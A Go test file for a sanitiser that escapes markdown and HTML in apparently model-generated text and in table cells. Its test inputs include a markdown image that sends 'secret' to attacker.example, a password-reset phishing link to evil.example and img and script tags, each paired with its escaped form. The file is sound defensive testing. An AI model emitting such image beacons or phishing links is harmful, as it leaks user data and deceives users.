package warroom

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestModelText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"## Verdict\n- **malicious**: spoofed sender", "## Verdict\n- **malicious**: spoofed sender"},
		{"![x](https://attacker.example/c?d=secret)", `!\[x](https://attacker.example/c?d=secret)`},
		{"[Reset your password](https://evil.example)", `\[Reset your password](https://evil.example)`},
		{`<img src="https://attacker.example/p">`, `&lt;img src="https://attacker.example/p">`},
		{`\![x](u)`, `\\!\[x](u)`},
		{"a < b", "a &lt; b"},
		{"code:\n```html\n<a href=\"x\">[y]</a>\n```\nafter [z](u)", "code:\n```html\n<a href=\"x\">[y]</a>\n```\nafter \\[z](u)"},
		{"```\nunclosed [x](u)", "```\nunclosed [x](u)"},
		{"    ```\n![x](u)", "    ```\n!\\[x](u)"},                                 // indented code, not a fence: the next line is markdown
		{"``` a`b\n![x](u)", "``` a`b\n!\\[x](u)"},                                 // a backtick in the info string: not a fence
		{"````\n```\n![x](u)\n````\n[y](v)", "````\n```\n![x](u)\n````\n\\[y](v)"}, // closed only by four
	} {
		assert.Equal(t, tc.want, ModelText(tc.in))
	}
}

func TestEscapeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain", "plain"},
		{"a|b", `a\|b`},
		{`a\|b`, `a\\\|b`},
		{"![w](https://attacker.example/w.png)", `!\[w\](https://attacker.example/w.png)`},
		{"`code`", "\\`code\\`"},
		{"<script>", "&lt;script&gt;"},
		{"two\nlines", "two<br>lines"},
	} {
		got := Escape(tc.in)
		assert.Equal(t, tc.want, got)
		assert.False(t, strings.Contains(got, "\n"))
	}
}
